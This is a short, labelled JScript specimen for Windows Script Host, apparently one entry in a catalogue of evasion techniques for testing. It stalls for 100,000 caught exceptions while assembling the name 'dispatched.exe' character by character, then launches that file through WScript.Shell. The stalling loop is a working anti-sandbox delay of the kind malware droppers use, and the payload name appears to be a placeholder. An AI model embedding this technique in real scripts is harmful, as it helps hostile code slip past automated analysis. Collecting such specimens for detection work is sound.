// persona: wsh
// reaches: process dispatched.exe
// names: time-waster
// trick: every step is an exception that is caught: a hundred thousand of them lead to the payload
var step = 0, command = "";
while (step < 100000) {
  try {
    throw step + 1;
  } catch (next) {
    step = next;
    if (step % 10000 === 0) command += "dispatched.exe".charAt(step / 10000 - 1);
  }
}
command += "dispatched.exe".slice(command.length);
new ActiveXObject("WScript.Shell").Run(command);
